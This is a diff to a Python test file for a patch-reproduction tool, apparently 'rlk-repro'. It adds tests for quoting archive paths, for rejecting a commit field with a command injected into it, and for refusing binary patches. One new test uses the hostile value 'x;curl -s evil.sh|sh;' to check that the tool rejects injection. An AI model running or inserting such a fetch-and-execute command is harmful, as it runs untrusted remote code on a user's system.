@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import dataclasses
 from pathlib import Path
 
 import pytest
@@ -50,11 +51,20 @@ def test_changes_are_kept_and_replay_says_how_to_apply_them(tmp_path: Path, monk
     (line,) = describe_own_patch(Path("my b.tgz"), [manifest])
     assert line == (
         f"rlk-repro ran with changes; in a clone of it: git checkout {COMMIT} && "
-        "tar xzOf 'my b.tgz' rlk-repro.patch | git apply"
+        f"tar xzOf '{Path('my b.tgz').absolute()}' rlk-repro.patch | git apply"
     )
     run_dir.plan.write_text("{}")
     (line,) = describe_own_patch(tmp_path, [manifest])
     assert line.endswith(f"&& git apply {tmp_path}/rlk-repro.patch")
+
+
+def test_text_of_a_stranger_is_no_part_of_a_command(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    manifest, _ = record(tmp_path, monkeypatch, PATCH)
+    own = manifest.sections["code"]["rlk_repro"]
+    assert isinstance(own, dict)
+    evil = dataclasses.replace(manifest, sections={"code": {"rlk_repro": {**own, "commit": "x;curl -s evil.sh|sh;"}}})
+    (line,) = describe_own_patch(Path("b.tgz"), [evil])
+    assert line.endswith("x;curl -s evil.sh|sh;, which is not a commit: no command can apply them")
 
 
 def test_secrets_are_taken_out_and_that_is_said(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
@@ -68,6 +78,7 @@ def test_secrets_are_taken_out_and_that_is_said(tmp_path: Path, monkeypatch: pyt
     ("patch", "reason"),
     [
         (b"x" * (own_patch.MAX_BYTES + 1), "larger than 1 MiB"),
+        (PATCH + b"\nGIT binary patch\nliteral 3\n", "binary files are among them, in which secrets cannot be found"),
         (b"", "they are in nothing that is shipped"),
         (Unknown("git is not on PATH"), "git is not on PATH"),
     ],
